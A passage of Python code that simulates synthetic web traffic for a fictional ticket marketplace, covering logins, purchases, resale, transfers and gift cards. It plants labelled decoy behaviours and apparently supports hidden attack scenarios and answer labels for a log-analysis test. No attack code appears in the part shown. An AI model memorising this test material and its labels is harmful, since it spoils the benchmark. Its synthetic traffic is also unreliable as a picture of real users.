    'a11y': 'accessibility_checker: an accessibility tool of the company loads public pages and seat maps every morning', 'kiosk': 'venue_kiosk: box-office kiosk at one address where many customers log in one after another', 'heavy': 'heavy_collector: one fan looks at dozens of events and listings every evening since day 0',
}


def build(name, seed, attacks, start='2026-09-07', days=16):
    st = ts(start)
    app = Tickets(random.Random(seed + 1), attacks, st)
    S = Sim(name, 'Stagepass: event-ticket marketplace after Ruby on Rails, synthetic', st, days, SRV, 80, HOST, app, seed, 1, 'Synthetic application in the manner of Ruby on Rails (an in-process handler writes the answers). Clients come through a load balancer at 10.200.0.2 that forwards their address; staff and internal jobs are direct. Every call of GET /api/v1/listings/{id} after the release of day 11 is labelled with Z30.')
    r = S.rng
    app.world()
    for k, d in DECOYS.items():
        S.decoy('D-' + k, *d.split(': ', 1))
    app.bad = [(S.local(3, 19), S.local(3, 19) + 35 * MIN)]
    release = st + 6 * DAY + 9 * HOUR
    PACK = '/packs/application-5d41c2.js'
    AND, IOS = 'Stagepass/%s (Android 14; SM-A546B) okhttp/4.12.0', 'Stagepass/%s CFNetwork/1494.0.7 Darwin/23.4.0'

    def C(ip, ua, ident=None, ep=None, dc=None, web=False, headers=None, direct=False):
        h = dict(headers or {})
        if web:
            h = dict({'Accept': 'application/json, text/plain, */*', 'Accept-Language': r.choice(['pt-PT,pt;q=0.9,en;q=0.8', 'en-GB,en;q=0.9', 'fr-FR,fr;q=0.9', 'de-AT,de;q=0.9']), 'Referer': f'http://{HOST}/'}, **h)
        elif ua and ua.startswith('Stagepass'):
            h = dict({'Accept': 'application/json'}, **h)
        cl = Client(ip if direct else LB, ua, ident, ep, dc, None if direct else ip, h)
        cl.web, cl.sid, cl.csrf, cl.tags, cl.exp, cl.refresh = web, None, None, {}, 0, None
        return cl

    def send(cl, m, url, js=None, **k):
        h = dict(k.pop('h', None) or {})
        if cl.web:
            if cl.sid:
                h.setdefault('Cookie', f'_stagepass_session={cl.sid}')
            if m != 'GET' and cl.csrf:
                h.setdefault('X-CSRF-Token', cl.csrf)
                h.setdefault('Origin', f'http://{HOST}')
            if m == 'GET' and url in cl.tags:
                h['If-None-Match'] = cl.tags[url][0]
        rs = S.call(cl, m, url, js=js, h=h, **k)
        if cl.web:
            S.tx[-1]['_tok'] = cl.sid
            c = re.search('_stagepass_session=([0-9a-f]+)', rs.h.get('Set-Cookie', ''))
            if c:
                cl.sid = c.group(1)
            if rs.st == 304 and url in cl.tags:
                rs.st, rs.body = 200, cl.tags[url][1]
            elif rs.st == 200 and m == 'GET' and 'ETag' in rs.h and isinstance(rs.body, (dict, list)):
                cl.tags[url] = (rs.h['ETag'], rs.body)
        return rs

    def ask(cl, m, url, js=None, **k):
        if cl.web and m != 'GET' and r.random() < .012:      # the token of an old tab: the page is loaded again
            send(cl, m, url, js, **dict(k, h=dict(k.get('h') or {}, **{'X-CSRF-Token': base64.b64encode(r.randbytes(64)).decode()})))
            yield r.uniform(2, 9)
            page(cl)
            yield r.uniform(2, 9)
        rs = send(cl, m, url, js, **k)
        for n in range(r.randint(1, 4)):
            if rs.st != 502:
                break
            yield 1.2 * 2 ** n * r.uniform(.8, 1.2)
            rs = send(cl, m, url, js, **dict(k, dc='D-outage'))
        return rs

    def gql(cl, op, **v):
        return ask(cl, 'POST', '/graphql', dict(operationName=op, query=QUERIES[op], variables=v))

    def page(cl, assets=True, at='/'):
        rs = send(cl, 'GET', at, h={'Accept': 'text/html,application/xhtml+xml,*/*;q=0.8'})
        m = re.search(r'csrf-token" content="([^"]+)"', rs.body or '') if isinstance(rs.body, str) else None
        if m:
            cl.csrf = m.group(1)
        if assets:
            x = send(cl, 'GET', PACK, h={'Accept': '*/*', **({'If-None-Match': cl.tags['pack']} if 'pack' in cl.tags else {})})
            if x.st == 200:
                cl.tags['pack'] = x.h['ETag']
        return rs

    def login(cl, u, pw=None, **k):
        """one try, as the kind of client does it"""
        if cl.web:
            rs = send(cl, 'POST', A + '/session', dict(user=dict(email=u['email'], password=pw or u['mem'], remember_me=True)), ident=u['email'], **k)
            if rs.st == 201:
                cl.csrf, cl.exp = rs.body['csrf_token'], S.now + 13 * DAY
        else:
            rs = send(cl, 'POST', '/oauth/token', dict(grant_type='password', username=u['email'], password=pw or u['mem'], client_id='app_9f2c1e', scope='app'), h={'Authorization': None}, ident=u['email'], **k)
            if rs.st == 200:
                cl.h['Authorization'], cl.exp, cl.refresh = 'Bearer ' + rs.body['access_token'], S.now + 7200, rs.body['refresh_token']
        return rs.st in (200, 201)

    def recover(cl, u, **k):
        send(cl, 'POST', A + '/password', dict(user=dict(email=u['email'])), h={'Authorization': None}, ident=u['email'], **k)
        yield r.uniform(30, 120)
        u['mem'] = f'{r.choice(WORDS).title()}{r.randint(10, 9999)}!'
        send(cl, 'PUT', A + '/password', dict(user=dict(reset_password_token=app.mail.get(u['email'], 'x'), password=u['mem'])), h={'Authorization': None}, ident=u['email'], **k)

    def signed(cl, u):
        cl.ident = u['email']
        if S.now < cl.exp - 60:
            return
        if not cl.web and cl.refresh:
            if 'okhttp' in cl.ua:       # finds out by the refusal
                send(cl, 'GET', A + '/me')
                yield .2
            rs = yield from ask(cl, 'POST', '/oauth/token', dict(grant_type='refresh_token', refresh_token=cl.refresh, client_id='app_9f2c1e'), h={'Authorization': None})
            if rs.st == 200:
                cl.h['Authorization'], cl.exp, cl.refresh = 'Bearer ' + rs.body['access_token'], S.now + 7200, rs.body['refresh_token']
                return
        for _ in range(r.randint(0, 4) if u.get('forget') else r.random() < .06):
            login(cl, u, r.choice([u['mem'][:-1], u['mem'].lower(), u['mem'] + '1']), dc='D-forget' if u.get('forget') else None)
            yield r.uniform(4, 25)
        if u.get('forget') and r.random() < .08:
            yield from recover(cl, u, dc='D-forget')
            yield 5
        for _ in range(2):
            if login(cl, u, dc='D-forget' if u.get('forget') else None):
                return
            yield r.uniform(5, 30)
        yield from recover(cl, u)
        yield 4
        login(cl, u)

    def opening(cl, u):
        if cl.web:
            rs = page(cl)
            if rs.st == 502:
                yield r.uniform(3, 12)
                page(cl)
            yield r.uniform(.2, 1)
            rs = yield from ask(cl, 'GET', A + '/me')
            if rs.st == 401:
                cl.exp = 0
                yield r.uniform(5, 20)
            yield from signed(cl, u)
        else:
            yield from signed(cl, u)
            rs = yield from ask(cl, 'GET', A + '/me')
            if rs.st == 401:
                cl.exp, cl.refresh = 0, None
                yield from signed(cl, u)
            yield from gql(cl, 'HomeFeed', city=u['city'], first=10)
        return S.now < cl.exp

    def browse(cl, u, n=None):
        """looks around; the id of the last event seen"""
        seen = []
        if cl.web:
            q = dict(page=1, per_page=20)
            if r.random() < .6:
                q['filter[city]'] = u['city']
            elif r.random() < .5:
                q['q'] = r.choice(ACTS).split(' ')[-1]
            for p in range(1, r.choice([2, 2, 3])):
                rs = yield from ask(cl, 'GET', A + '/events?' + urlencode(dict(q, page=p)))
                if rs.st == 200:
                    seen += [e['id'] for e in rs.body]
                yield r.lognormvariate(2, .7)
        else:
            if r.random() < .5:
                rs = yield from gql(cl, 'SearchEvents', text=r.choice(ACTS).split(' ')[-1], first=10, after=None)
                d = rs.body.get('data', {}).get('search') if rs.st == 200 else None
            else:
                rs = yield from gql(cl, 'HomeFeed', city=r.choice([u['city'], u['city'], None]), first=r.choice([10, 20]))
                d = rs.body.get('data', {}).get('events') if rs.st == 200 else None
            seen += [e['id'] for e in (d or {'nodes': []})['nodes']]
        last = None
        for i in r.sample(seen, min(len(seen), n or r.choice([1, 1, 2, 3]))):
            last = i
            yield r.lognormvariate(2.2, .7)
            if cl.web:
                yield from ask(cl, 'GET', f'{A}/events/{i}')
                if r.random() < .5:
                    send(cl, 'GET', f'/media/{i[4:]}.jpg', h={'Accept': 'image/*,*/*;q=0.8'})
                if r.random() < .3:
                    yield from ask(cl, 'GET', f'{A}/events/{i}/reviews')
            else:
                rs = yield from gql(cl, 'EventDetail', id=i)
                e = (rs.body.get('data') or {}).get('event') if rs.st == 200 else None
                if e and r.random() < .15:
                    yield 5
                    yield from gql(cl, 'VenueScreen', id=e['venue']['id'])
                elif e and r.random() < .12:
                    yield 5
                    yield from gql(cl, 'ArtistScreen', id=e['artist']['id'])
                    if r.random() < .3:
                        yield from gql(cl, 'FollowArtist', id=e['artist']['id'])
        if last and r.random() < .05:
            yield 10
            yield from ask(cl, 'POST', f'{A}/events/{last}/reviews', dict(review=dict(body=r.choice(SAY))))
        return last
    psp = C('192.0.2.80', 'Stripe/1.0 (+https://stripe.com/docs/webhooks)', 'psp')

    def pay(pi, cents):
        body = json.dumps(dict(id='evt_' + f'{r.getrandbits(60):x}', type='payment_intent.succeeded', data=dict(id=pi, amount=cents, currency='eur'))).encode()
        S.call(psp, 'POST', '/webhooks/payments', body=body, ct='application/json', h={'Stripe-Signature': f't={int(S.now)},v1={hashlib.sha256(body).hexdigest()}'})

    def buy(cl, u, i, n=None, queue=None, promo=None, fast=False, gift=None, hold=None):
        """hold, cart, attendees, payment, check-out; the order or None"""
        w = lambda a, b: r.uniform(.1, .5) if fast else r.uniform(a, b)
        if not hold:
            rs = yield from ask(cl, 'GET', f'{A}/events/{i}/seats')
            if rs.st != 200 or not rs.body['sections']:
                return None
            x = r.choice(rs.body['sections'])
            row = r.choice(x['rows'])
            n = n or r.choice([1, 2, 2, 2, 3, 4])
            yield w(6, 50)
            rs = yield from ask(cl, 'POST', f'{A}/events/{i}/holds', dict(hold=dict(seat_ids=[f'{x["section"]}-{row["row"]}-{k}' for k in row['free'][:n]])), h={'X-Queue-Token': queue} if queue else None)
            if rs.st != 201:
                return None
            hold = rs.body['id']
            if not fast and r.random() < .2:
                yield r.uniform(10, 100)
                yield from ask(cl, 'DELETE', f'{A}/holds/{hold}')
                return None
        yield w(1, 3)
        rs = yield from ask(cl, 'POST', A + '/carts', dict(cart=dict(hold_id=hold)))
        if rs.st != 201:
            return None
        c = rs.body['id']
        if not fast and r.random() < .25:
            return None
        if not fast and r.random() < .12:
            yield w(3, 9)
            yield from ask(cl, 'POST', f'{A}/carts/{c}/addons', dict(addon=dict(sku=r.choice(['parking', 'programme', 'poster']), quantity=r.choice([1, 1, 2]))))
        if promo or not fast and r.random() < .14:
            for k in ([promo] if promo else r.choice([['WELCOME10'], ['SPRING26'], ['SPRING2026', 'SPRING26'], ['fanclub15'], ['STUDENT20'], ['SUMMER26']])):
                yield w(5, 20)
                yield from ask(cl, 'POST', f'{A}/carts/{c}/promo_code', dict(code=k))
        if gift:
            yield w(5, 20)
            yield from ask(cl, 'POST', f'{A}/carts/{c}/gift_card', dict(code=gift))
        yield w(10, 60)
        rs = yield from ask(cl, 'PATCH', f'{A}/carts/{c}', dict(cart=dict(attendees=[u['name']] * len(rs.body['items']), delivery='mobile')))
        yield w(2, 8)
        rs = yield from ask(cl, 'POST', f'{A}/carts/{c}/payment_intent', {})
        if rs.st != 201:
            return None
        yield w(9, 45) if not fast else r.uniform(.6, 1.2)
        pay(rs.body['id'], rs.body['amount_cents'])
        yield w(.3, 1.5)
        rs = yield from ask(cl, 'POST', f'{A}/carts/{c}/checkout', dict(payment_intent=rs.body['id'], payment_method='card'))
        return rs.body if rs.st == 201 else None

    def do_buy(cl, u):
        i = yield from browse(cl, u)
        if i and i != big['id']:
            o = yield from buy(cl, u, i, gift=u.get('gift') if r.random() < .5 else None)
            if o:
                yield r.uniform(2, 8)
                yield from ask(cl, 'GET', f'{A}/orders/{o["id"]}')

    def do_orders(cl, u):
        rs = yield from ask(cl, 'GET', A + '/orders?page=1')
        v = rs.body if rs.st == 200 else []
        for o in r.sample(v, min(len(v), r.choice([1, 1, 2]))):
            yield r.uniform(3, 12)
            rs = yield from ask(cl, 'GET', f'{A}/orders/{o["id"]}')
            if rs.st != 200:
                continue
            ev = calendar.timegm(time.strptime(o['event']['starts_at'][:19], '%Y-%m-%dT%H:%M:%S'))
            if 0 < ev - S.now < 3 * DAY or r.random() < .2:
                for t in rs.body['tickets']:
                    yield r.uniform(1, 5)
                    yield from ask(cl, 'GET', f'{A}/tickets/{t["id"]}/barcode')
                    if '5.3' in cl.ua and r.random() < .5:
                        yield from ask(cl, 'GET', f'{A}/tickets/{t["id"]}/wallet_pass', dc='D-feature')
            if r.random() < .16:
                yield r.uniform(3, 9)
                yield from ask(cl, 'GET', f'{A}/receipts/{o["number"]}')
            elif r.random() < .04:
                yield from ask(cl, 'POST', f'{A}/orders/{o["id"]}/refund', {})

    def do_resale(cl, u):
        i = yield from browse(cl, u, 1)
        for q in ([dict(event_id=i)] if i else []) + [dict(sort=r.choice(['price', '-price']), page=1)]:
            rs = yield from ask(cl, 'GET', A + '/listings?' + urlencode(q))
            v = rs.body if rs.st == 200 else []
            for l in r.sample(v, min(len(v), r.choice([1, 1, 2, 3]))):
                yield r.lognormvariate(2.2, .6)
                yield from ask(cl, 'GET', f'{A}/listings/{l["id"]}')
                if l['seller']['id'] != u['id'] and r.random() < .09:
                    yield r.uniform(20, 70)
                    yield from ask(cl, 'POST', f'{A}/listings/{l["id"]}/purchase', dict(payment_method='card'))
            yield r.uniform(3, 12)

    def do_sell(cl, u):
        rs = yield from ask(cl, 'GET', A + '/orders?page=1')
        v = rs.body if rs.st == 200 else []
        if v:
            o = r.choice(v)
            rs = yield from ask(cl, 'GET', f'{A}/orders/{o["id"]}')
            t = next((t for t in rs.body['tickets'] if t['state'] == 'valid'), None) if rs.st == 200 else None
            if t:
                yield r.uniform(15, 60)
                rs = yield from ask(cl, 'POST', A + '/listings', dict(listing=dict(ticket_id=t['id'], price_cents=r.randint(20, 120) * 100)))
                if rs.st == 201:
                    u.setdefault('mylist', []).append(rs.body['id'])
        for k in u.get('mylist', [])[:2]:
            yield r.uniform(5, 30)
            rs = yield from ask(cl, 'GET', f'{A}/listings/{k}')
            if rs.st == 200 and rs.body['state'] == 'active' and r.random() < .6:
                yield r.uniform(5, 30)
                if r.random() < .75:
                    yield from ask(cl, 'PATCH', f'{A}/listings/{k}', dict(listing=dict(price_cents=max(500, rs.body['price_cents'] - r.randint(1, 9) * 100))))
                else:
                    yield from ask(cl, 'DELETE', f'{A}/listings/{k}')
        if u['payouts'] or r.random() < .4:
            rs = yield from ask(cl, 'GET', A + '/payouts')
            for p in (rs.body if rs.st == 200 else [])[:1]:
                yield 4
                yield from ask(cl, 'GET', f'{A}/payouts/{p["id"]}')

    def receive(v, code, dc=None):
        cl = v['cl']
        keep, cl.dc = cl.dc, dc or cl.dc
        send(cl, 'GET', f'/t/{code}', h={'Authorization': None, 'Accept': 'text/html,*/*;q=0.8'})
        yield .4
        send(cl, 'GET', f'{A}/transfers/{code}', h={'Authorization': None})
        yield r.uniform(5, 60)
        yield from opening(cl, v)
        yield r.uniform(2, 9)
        yield from ask(cl, 'POST', f'{A}/transfers/{code}/accept', {})
        cl.dc = keep

    def do_transfer(cl, u, n=1, dc=None):
        rs = yield from ask(cl, 'GET', A + '/orders?page=1')
        v = rs.body if rs.st == 200 else []
        for o in v if dc else r.sample(v, min(1, len(v))):
            rs = yield from ask(cl, 'GET', f'{A}/orders/{o["id"]}')
            for t in [t for t in rs.body['tickets'] if t['state'] == 'valid'][:n] if rs.st == 200 else []:
                yield r.uniform(5, 20)
                rs = yield from ask(cl, 'POST', f'{A}/tickets/{t["id"]}/transfer', {})
                n -= 1
                if rs.st == 201 and r.random() < .85:
                    S.spawn(S.now + r.expovariate(1 / 9000) + 40, receive(r.choice(cust[:150]), rs.body['code'], dc))
            if n <= 0:
                break

    def do_gift(cl, u):
        k = u.get('gift') or f'GC-7731-{r.choice(gifted):04}'
        if r.random() < .25:
            send(cl, 'POST', A + '/gift_cards/balance', dict(code=k[:-2] + k[-1] + k[-2]))
            yield r.uniform(5, 20)
        yield from ask(cl, 'POST', A + '/gift_cards/balance', dict(code=k))

    def do_profile(cl, u):
        yield r.uniform(4, 20)
        if r.random() < .75:
            yield from ask(cl, 'PATCH', f'{A}/users/{u["id"]}', dict(user=dict(name=u['name'], phone=f'+3519{r.randint(10**7, 10**8 - 1)}')))
        else:
            new = f'{r.choice(WORDS).title()}{r.randint(10, 9999)}?'
            rs = send(cl, 'PUT', A + '/me/password', dict(user=dict(current_password=u['mem'], password=new)))
            if rs.st == 204:
                u['mem'] = new

    def visit(cl, u, n=None):
        ok = yield from opening(cl, u)
        if not ok:
            return
        for f in r.choices((browse, do_buy, do_orders, do_resale, do_sell, do_transfer, do_gift, do_profile), weights=(4, 2.2, 3.2, 1.8, .6, .5, .3, .3), k=n or r.choice([1, 1, 2, 2, 3])):
            yield r.lognormvariate(1.8, .8)
            yield from f(cl, u)
    T = dict(C=C, send=send, page=page, login=login, recover=recover, signed=signed, opening=opening, browse=browse, buy=buy, visit=visit, do_orders=do_orders, do_resale=do_resale, pay=pay)

    # --- the state before
    evs = list(app.events.values())
    big = evs[60]
    big.update(name='Sundial - reunion', at=st + 80 * DAY, room=(S.local(9, 10), S.local(9, 10) + 2 * HOUR))
    cust = [app.user() for _ in range(184)]
    crowd = [app.user() for _ in range(420)]
    orgs = [app.user('organizer') for _ in range(9)]
    help_, admins = [app.user('support') for _ in range(4)], [app.user('admin') for _ in range(2)]
    for k, e in enumerate(evs):
        e['org'] = orgs[k % 9]['id']
    plan = []
    for u in cust:
        plan += [(st - r.random() * 90 * DAY, u, r.choice(evs[:22] + evs[1:])) for _ in range(r.randint(0, 4))]
    for e in evs[:22]:
        plan += [(st - r.random() * 90 * DAY, u, e) for u in r.sample(crowd, r.randint(10, 20))]
    for t, u, e in sorted(plan, key=lambda x: x[0]):
        if e is not big:
            app.mk_order(u, e, r.sample(app.free(e, t), r.choice([1, 2, 2, 3])), t)
    for u in r.sample(cust[:150], 50) + r.sample(crowd, 90):
        for t in [t for o in u['orders'] for t in app.orders[o]['tickets'] if app.events[app.orders[o]['evt']]['at'] > st + DAY][:r.choice([1, 1, 2])]:
            app.mk_listing(u, t, r.randint(20, 140) * 100, st - r.random() * 40 * DAY)
            if u in cust:
                u.setdefault('mylist', []).append(app.li)
    gifted = sorted(r.sample(range(1200, 9900), 270))
    for k in gifted:
        app.gifts[f'GC-7731-{k:04}'] = dict(cents=r.choice([2500, 5000, 5000, 10000]), lock=0, was=0)

    # --- customers
    nat = [f'100.66.{k}.21' for k in range(4)]
    for i, u in enumerate(cust):
        web = i % 5 in (2, 4)
        u['city'] = CITY[r.choice([0, 0, 1, 1, 2, 3, 4, 5, 6])]
        dc = None
        if i < 50 and not web:
            src, dc = nat[i % 4], 'D-nat'
        elif 50 <= i < 61:
            src, dc = '203.0.113.40', 'D-office'
        else:
            src = f'2001:db8:{0x2000 + i:x}::{i + 9:x}' if i % 12 == 5 else f'198.18.{i % 80}.{i + 2}'
        ua = WEB[i // 5 % 4] if web else (AND, IOS)[i % 2]
        cl = u['cl'] = C(src, ua if web else ua % '5.2.1', u['email'], dc=dc, web=web)
        u['home'], u['base'], cl.tpl = src, dc, ua
        u['forget'] = i in (72, 97, 132)
        if i in (64, 77, 83, 90, 101, 118, 120, 129):
            u['gift'] = f'GC-7731-{gifted[i]:04}'
        if i == 66:
            u['base'] = cl.dc = 'D-heavy'
        for t in S.human_starts(1 if i in (72, 97, 132, 80) else r.choice([.06, .14, .26, .46]), peaks=((8, 1.2), (13, 2), (19, 2), (21.5, 1.2)), weekend=r.choice([.8, 1.2, 1.6])):
            def one(cl=cl, u=u, i=i, web=web):
                if not web and '5.2' in cl.ua and S.now > release + (i * 977 % 5000) * 50:
                    cl.ua = cl.tpl % '5.3.0'
                if '5.3' in cl.ua and S.now < release + 5 * DAY and not u['base']:
                    cl.dc = 'D-release'
                elif cl.dc == 'D-release':
                    cl.dc = None
                if i == 80:
                    cl.xff, cl.dc = ('192.0.2.91', 'D-roam') if 4 < (S.now - st) / DAY < 7.4 else (u['home'], None)
                if u['forget']:        # has not ticked "remember me"
                    cl.sid, cl.exp = None, 0
                yield from visit(cl, u)
            S.spawn(t, one())

    def with_dc(dc, u, gen):
        keep, u['cl'].dc = u['cl'].dc, dc
        yield from gen
        u['cl'].dc = keep

    def abroad():
        u = cust[80]
        u['cl'].xff, u['cl'].dc = '192.0.2.91', 'D-roam'
        yield from visit(u['cl'], u)
    for d, h in ((4, 20), (5, 10), (5, 22), (6, 13), (7, 9)):
        S.spawn(S.local(d, h), abroad())

    def fan():
        u = cust[66]
        for d in range(days):
            yield max(1, S.local(d, 20) + r.random() * HOUR - S.now)
            yield from opening(u['cl'], u)
            for _ in range(4):
                yield from browse(u['cl'], u, 5)
            yield from do_resale(u['cl'], u)
    S.spawn(st + 5, fan())

    # the family on one account
    fam = cust[110]
    for k in range(3):
        cl = C(['198.18.60.7', '198.18.60.7', '198.18.71.30'][k], [IOS % '5.2.1', AND % '5.2.1', WEB[0]][k], fam['email'], dc='D-share', web=k == 2)
        for t in S.human_starts(.5, peaks=((13, 2), (20, 2))):
            S.spawn(t, visit(cl, fam, 1))

    def impatient(u):
        for _ in range(r.randint(1, 3)):
            yield from visit(u['cl'], u, 1)
            yield r.uniform(30, 300)
    for u in r.sample(cust[:150], 24):
        S.spawn(app.bad[0][0] + r.random() * 30 * MIN, with_dc('D-outage', u, impatient(u)))

    # --- the on-sale
    def wait_in_line(cl, u, i, every=lambda: r.uniform(14, 17), tries=110, leave=.006):
        rs = yield from ask(cl, 'POST', f'{A}/events/{i}/queue', {})
        if rs.st != 201:
            yield r.uniform(5, 20)
            rs = yield from ask(cl, 'POST', f'{A}/events/{i}/queue', {})
            if rs.st != 201:
                return None
        q = rs.body['queue_token']
        for _ in range(tries):
            yield every()
            rs = yield from ask(cl, 'GET', f'{A}/queue/status?token={q}')
            if rs.st == 200 and rs.body['status'] == 'admitted':
                return rs.body['queue_token']
            if r.random() < leave:
                return None
    T['wait_in_line'] = wait_in_line

    def onsale(u):
        cl = u['cl']
        ok = yield from opening(cl, u)
        if ok:
            yield from (ask(cl, 'GET', f'{A}/events/{big["id"]}') if cl.web else gql(cl, 'EventDetail', id=big['id']))
            yield max(0, big['room'][0] - S.now) * r.uniform(.98, 1.02) + r.uniform(.5, 20)
            q = yield from wait_in_line(cl, u, big['id'])
            for _ in range(3):
                if not q:
                    return
                yield r.uniform(1, 5)
                if (yield from buy(cl, u, big['id'], queue=q)):
                    return
    for u in r.sample(cust[:150], 62):
        S.spawn(big['room'][0] + r.choice([-600, -300, -120, 60, 300, 600, 1500]) + r.random() * 120, with_dc('D-onsale', u, onsale(u)))

    # --- further decoys
    def group():
        u = cust[68]
        yield from opening(u['cl'], u)
        yield from (ask(u['cl'], 'GET', f'{A}/events/{evs[70]["id"]}') if u['cl'].web else gql(u['cl'], 'EventDetail', id=evs[70]['id']))
        yield from buy(u['cl'], u, evs[70]['id'], 5)
        yield from buy(u['cl'], u, evs[70]['id'], 5)
        yield 300
        yield from do_transfer(u['cl'], u, 5, 'D-links')
    S.spawn(S.local(4, 19), with_dc('D-links', cust[68], group()))

    def watch(u, d, h):
        yield max(0, S.local(d, h) - S.now)
        yield from opening(u['cl'], u)
        rs = yield from ask(u['cl'], 'GET', A + '/listings?sort=price&page=1')
        l = r.choice(rs.body)['id']
        for _ in range(r.randint(25, 50)):
            yield 600 + r.uniform(0, 9)
            yield from signed(u['cl'], u)
            send(u['cl'], 'GET', f'{A}/listings/{l}')
    for i, d, h in ((85, 2, 9), (91, 5, 12), (85, 7, 10), (103, 10, 9)):
        S.spawn(S.local(d, h), with_dc('D-watch', cust[i], watch(cust[i], d, h)))

    def stale(u):
        yield from opening(u['cl'], u)
        cl = C(u['home'], u['cl'].ua + ' widget', u['email'], dc='D-stale', headers={'Authorization': u['cl'].h.get('Authorization')})
        yield 7200 - 20 * MIN
        for _ in range(36):
            S.call(cl, 'GET', A + '/orders?page=1')
            yield 300 + r.random() * 5
    for i, d in ((105, 3), (116, 8)):
        S.spawn(S.local(d, 14), stale(cust[i]))

    def letter(u):
        cl = u['cl']
        send(cl, 'GET', f'/e/{big["id"][:-1]}?utm_source=newsletter&utm_campaign=autumn', h={'Authorization': None, 'Accept': 'text/html,*/*;q=0.8'}, dc='D-newsletter')
        yield r.uniform(3, 20)
        if r.random() < .5:
            yield from visit(cl, u, 1)
    for u in r.sample(cust[:150], 44):
        S.spawn(S.local(5, 11) + r.expovariate(1 / 9000), letter(u))

    def change(u):
        yield from opening(u['cl'], u)
        yield r.uniform(10, 60)
        if r.random() < .2:
            send(u['cl'], 'PUT', A + '/me/password', dict(user=dict(current_password=u['mem'][:-1], password='x' * 10)))
            yield r.uniform(5, 20)
        new = f'{r.choice(WORDS).title()}{r.randint(10, 9999)}#'
        if send(u['cl'], 'PUT', A + '/me/password', dict(user=dict(current_password=u['mem'], password=new))).st == 204:
            u['mem'] = new
    for u in r.sample(cust[:150], 80):
        S.spawn(S.local(12, r.gauss(14, 3) % 24), with_dc('D-pwday', u, change(u)))

    def guest(o, k):
        cl = C(f'198.18.{90 + k % 9}.{k + 11}', r.choice(WEB), o['email'], dc='D-guest', web=True)
        page(cl)
        yield r.uniform(15, 60)
        if r.random() < .35:
            for _ in range(r.randint(1, 3)):
                send(cl, 'POST', A + '/orders/lookup', r.choice([dict(email=o['email'], number=o['number'].replace('K-', '')), dict(email=o['email'].replace('.', '', 1), number=o['number']), dict(email=o['email'], number=o['number'][:-2] + o['number'][-1] + o['number'][-2])]))
                yield r.uniform(8, 40)
        send(cl, 'POST', A + '/orders/lookup', dict(email=o['email'], number=o['number']))
    for k in range(70):
        S.spawn(S.local(k % days, r.gauss(16, 4) % 24), guest(app.orders[r.choice(r.choice([u for u in crowd if u['orders']])['orders'])], k))

    def typo_cards(u, code):
        yield from opening(u['cl'], u)
        for _ in range(r.randint(1, 4)):
            send(u['cl'], 'POST', A + '/gift_cards/balance', dict(code=r.choice([code.replace('-', ''), code.replace('GC', 'CG'), code[:-1], code[:-2] + code[-1] + code[-2]])))
            yield r.uniform(6, 30)
        send(u['cl'], 'POST', A + '/gift_cards/balance', dict(code=code))
    for k in range(11):
        S.spawn(S.local(10, 12) + r.random() * 3 * HOUR, with_dc('D-gift', cust[50 + k], typo_cards(cust[50 + k], f'GC-7731-{gifted[100 + k]:04}')))

    def newcomer(src, ua, dc, web, again=True, ref=None):
        f, l = r.choice(FIRST), r.choice(LAST)
        cl = C(src, ua, dc=dc, web=web)
        m, pw = f'{f}{l}{r.randint(1, 9999)}@{r.choice(["mail", "post"])}.example', f'{r.choice(WORDS).title()}{r.randint(100, 9999)}!'
        cl.ident = m
        if web:
            page(cl)
            yield r.uniform(20, 90)
        j = dict(name=f'{f.title()} {l.title()}', email=m, password=pw)
        if ref:
            j['referral_code'] = ref
        if send(cl, 'POST', A + '/users', dict(user=j)).st != 201:
            return
        u = app.users[m]
        u.update(cl=cl, base=dc, home=src, city=r.choice(CITY))
        yield 2
        while True:
            yield from visit(cl, u)
            if not again or r.random() < .35:
                return
            yield DAY * r.uniform(.5, 2.5)
            h = (S.now / HOUR + 1) % 24
            if h < 8:
                yield (9 - h) * HOUR
    for d in range(days):
        for _ in range(r.choice([0, 1, 1, 2, 3])):
            w, k = r.random() < .4, r.randint(0, 250)
            S.spawn(S.local(d, r.gauss(16, 4) % 24), newcomer(f'198.18.{100 + k % 60}.{k + 2}', r.choice(WEB) if w else r.choice([AND, IOS]) % ('5.2.1' if d < 7 else '5.3.0'), 'D-signup', w, True, r.choice(cust)['ref'] if r.random() < .3 else None))

    def kiosk(d):
        for _ in range(r.randint(3, 6)):
            u = r.choice(crowd)
            cl = C('198.51.100.210', 'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', u['email'], dc='D-kiosk', web=True)
            page(cl)
            yield r.uniform(10, 40)
            if r.random() < .25:
                login(cl, u, u['mem'][:-1])
                yield r.uniform(5, 20)
            if login(cl, u):
                yield 4
                yield from do_orders(cl, u)
                yield 10
                send(cl, 'DELETE', A + '/session')
            yield r.uniform(60, 700)
    for d in range(days):
        S.spawn(S.local(d, 17.5), kiosk(d))

    def broker():
        u = app.user('customer', 'Seat Exchange Lda')
        u['seller'], u['city'] = True, 'Lisboa'
        cl = C('192.0.2.66', 'SeatExchange-Sync/2.4 (ruby 3.2; faraday 2.9)', u['email'], dc='D-broker')
        for e in evs[30:50]:
            for t in app.mk_order(u, e, app.free(e, st)[-2:], st - 20 * DAY)['tickets']:
                app.mk_listing(u, t, r.randint(30, 120) * 100, st - 10 * DAY)
        while True:
            for h in (8, 12.5, 17):
                yield max(1, S.local(int((S.now - st) / DAY), h) + r.random() * 600 - S.now)
                if S.now > cl.exp - 60:
                    login(cl, u)
                    yield 1
                for k in r.sample(u['listings'], 9):
                    if app.listings[k]['state'] == 'active':
                        send(cl, 'PATCH', f'{A}/listings/{k}', dict(listing=dict(price_cents=r.randint(30, 120) * 100)))
                        yield r.uniform(.4, 2)
            yield max(1, S.local(int((S.now - st) / DAY) + 1, 7) - S.now)
    S.spawn(st + 20, broker())

    # --- organisers, gates, affiliates, staff
    def organiser(u, d):
        cl = u['cl']
        yield from opening(cl, u)
        rs = yield from ask(cl, 'GET', O + '/events?page=1')
        v = rs.body if rs.st == 200 else []
        for e in r.sample(v, min(len(v), r.randint(1, 4))):
            yield r.uniform(5, 60)
            yield from ask(cl, 'GET', f'{O}/events/{e["id"]}/sales')
            x = r.random()
            if x < .35:
                for p in range(1, r.choice([2, 3])):
                    yield r.uniform(5, 60)
                    yield from ask(cl, 'GET', f'{O}/events/{e["id"]}/attendees?page={p}')
            elif x < .5:
                yield r.uniform(20, 90)
                yield from ask(cl, 'PATCH', f'{O}/events/{e["id"]}', dict(event=dict(name=e['name'])))
            elif x < .6:
                yield r.uniform(20, 90)
